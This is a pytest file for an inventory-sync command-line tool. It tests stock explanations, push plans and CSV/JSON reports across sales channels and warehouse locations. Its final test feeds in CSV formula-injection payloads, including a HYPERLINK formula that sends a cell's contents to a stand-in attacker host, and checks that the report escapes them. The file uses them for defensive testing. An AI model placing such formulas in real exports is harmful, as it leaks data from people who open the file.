"""``erpsync stock explain|plan|report`` on a fixture with two channels and three locations.

The explain output for TEA-001 is also the sample shown in docs/stock.md; the test keeps the two
equal, so the documentation always shows what the command prints.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest

from config import load_config
from erpsync.cli import run_cli
from erpsync.wiring import location_specs
from mapping.records import Product
from store import stock
from store.db import make_engine
from store.locations import apply_locations
from sync.reconcile import PageContext, reconcile_products

DOCS = Path(__file__).resolve().parents[2] / "docs" / "stock.md"

CONFIG = """\
database: {{url: "sqlite:///{db}"}}
locations:
  - {{code: WH-SH, name: Shanghai factory warehouse, kind: warehouse, safety_stock: 5}}
  - {{code: GA-SOUTH, name: South China agent, kind: agent, parent: WH-SH}}
  - {{code: DS-GZ, name: Guangzhou distributor, kind: distributor, parent: GA-SOUTH}}
connectors:
  - name: tmall
    kind: rest
    settings: {{base_url: "https://tmall.example/api/", stock_push: {{path: stock/push}}}}
  - name: b2b
    kind: rest
    settings: {{base_url: "https://b2b.example/api/", stock_push: {{path: stock/push}}}}
channels:
  - name: tmall
    sources: [WH-SH, DS-GZ]
    rule: {{percent: 80, buffer: 2, zero_below: 3}}
    overrides:
      - {{sku: CUP-010, max: 20}}
    locks:
      - {{sku: TEA-001, qty: 10}}
  - name: b2b
    sources: [WH-SH, GA-SOUTH]
    rule: {{percent: 100}}
    locks:
      - {{sku: TEA-001, qty: 15}}
"""


@pytest.fixture
def config(tmp_path: Path) -> Path:
    path = tmp_path / "erpsync.yaml"
    path.write_text(CONFIG.format(db=tmp_path / "e.db"))
    assert run_cli(["-c", str(path), "db", "upgrade"]) == 0
    engine = make_engine(f"sqlite:///{tmp_path / 'e.db'}")
    ids = apply_locations(engine, location_specs(load_config(path)))
    with engine.begin() as conn:
        for sku, loc, qty in [
            ("TEA-001", "WH-SH", 120),
            ("TEA-001", "GA-SOUTH", 30),
            ("TEA-001", "DS-GZ", 12),
            ("CUP-010", "WH-SH", 300),
            ("POT-020", "DS-GZ", 4),
        ]:
            stock.adjust(conn, sku, ids[loc], qty, ref="opening count")
        stock.reserve(conn, "TEA-001", ids["WH-SH"], 8, ref_type="order_line", ref="1")
    engine.dispose()
    return path


def cli(config: Path, *args: str) -> int:
    return run_cli(["-c", str(config), *args])


def test_explain_shows_every_step_per_channel(config: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert cli(config, "stock", "explain", "TEA-001") == 0
    out = capsys.readouterr().out
    # tmall: (120-8-5) + 12 = 119; minus b2b's lock of 15 = 104; 80 % = 83; minus buffer 2 = 81
    assert "channel tmall: sellable 81" in out
    assert re.search(r"available at WH-SH\s+│\s+107\s+│\s+120 on hand − 8 reserved − 5 safety", out)
    assert re.search(r"minus units locked for other channels\s+│\s+104\s+│\s+15 unit\(s\)", out)
    # b2b: 107 + 30 = 137; minus tmall's lock of 10 = 127; 100 %
    assert "channel b2b: sellable 127" in out
    assert "push: never pushed; the next plan queues 81" in out
    documented = (
        DOCS.read_text(encoding="utf-8")
        .split("```text\n$ erpsync stock explain TEA-001\n")[1]
        .split("```")[0]
    )
    assert documented == out


def test_explain_one_channel_and_a_rule_limited_sku(config: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert cli(config, "stock", "explain", "CUP-010", "--channel", "tmall") == 0
    out = capsys.readouterr().out
    assert "channel tmall: sellable 20" in out
    assert "at most 20" in out
    assert "override sku=CUP-010" in out
    assert "b2b" not in out
    assert cli(config, "stock", "explain", "CUP-010", "--channel", "nope") == 2
    assert "no channel named 'nope'" in capsys.readouterr().err


def test_plan_lists_what_would_be_pushed_and_sends_nothing(
    config: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert cli(config, "stock", "plan") == 0
    out = capsys.readouterr().out
    rows = re.findall(r"│ (\w+)\s+│ ([\w-]+)\s+│ -\s+│ (\d+)\s+│", out)
    assert sorted(rows) == sorted(
        [
            ("tmall", "CUP-010", "20"),
            ("tmall", "POT-020", "0"),
            ("tmall", "TEA-001", "81"),
            ("b2b", "CUP-010", "295"),
            ("b2b", "TEA-001", "127"),
        ]
    )
    assert "5 change(s) would be pushed" in out
    assert cli(config, "stock", "plan") == 0  # nothing was queued by planning
    assert "5 change(s) would be pushed" in capsys.readouterr().out


def test_report_formats(config: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert cli(config, "stock", "report", "--format", "csv") == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    tea = next(r for r in rows if r["sku"] == "TEA-001" and r["location"] == "WH-SH")
    assert (tea["on_hand"], tea["reserved"], tea["safety_stock"], tea["available"]) == (
        "120",
        "8",
        "5",
        "107",
    )
    assert cli(config, "stock", "report", "--format", "json", "--location", "DS-GZ") == 0
    data = json.loads(capsys.readouterr().out)
    assert {(r["sku"], r["available"]) for r in data} == {("TEA-001", 12), ("POT-020", 4)}
    assert cli(config, "stock", "report", "--format", "xml") == 2


def test_report_arguments_follow_the_key_rule(config: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert (
        cli(config, "stock", "report", "--format", "json", "--sku", "TEA-001 ", "--location", " DS-GZ") == 0
    )
    assert [(r["sku"], r["location"]) for r in json.loads(capsys.readouterr().out)] == [("TEA-001", "DS-GZ")]
    assert cli(config, "stock", "report", "--sku", "TEA\t001") == 2
    assert "control character U+0009" in capsys.readouterr().err


def test_report_shows_each_skus_unit(config: Path, capsys: pytest.CaptureFixture[str]) -> None:
    engine = make_engine(f"sqlite:///{config.parent / 'e.db'}")
    with engine.begin() as conn:
        reconcile_products(conn, [Product(sku="TEA-001", name="Green tea", uom="g")], PageContext("erp", 1))
    engine.dispose()
    assert cli(config, "stock", "report", "--format", "json", "--location", "DS-GZ") == 0
    assert {(r["sku"], r["unit"]) for r in json.loads(capsys.readouterr().out)} == {
        ("TEA-001", "g"),
        ("POT-020", ""),  # a level that arrived before its product
    }
    assert cli(config, "stock", "report", "--sku", "TEA-001") == 0
    assert re.search(r"TEA-001\s*│\s*g\s*│\s*DS-GZ", capsys.readouterr().out)


def test_report_csv_cells_never_run_as_formulas(
    config: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    hostile = ['=HYPERLINK("http://evil.example/?d="&A1,"open")', "+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]
    engine = make_engine(f"sqlite:///{tmp_path / 'e.db'}")
    with engine.begin() as conn:
        ids = dict(conn.exec_driver_sql("SELECT code, id FROM location").tuples().all())
        for sku in hostile:
            stock.adjust(conn, sku, ids["DS-GZ"], 3, ref="count")
        stock.adjust(conn, "NEG-1", ids["DS-GZ"], -4, ref="write-off before the count")
    engine.dispose()

    assert cli(config, "stock", "report", "--format", "csv", "--location", "DS-GZ") == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out, newline="")))
    skus = {row[0] for row in rows[1:]}
    assert {"'" + sku for sku in hostile} <= skus
    assert not skus & set(hostile)
    assert next(row for row in rows if row[0] == "NEG-1")[3] == "-4"  # a number, not a formula
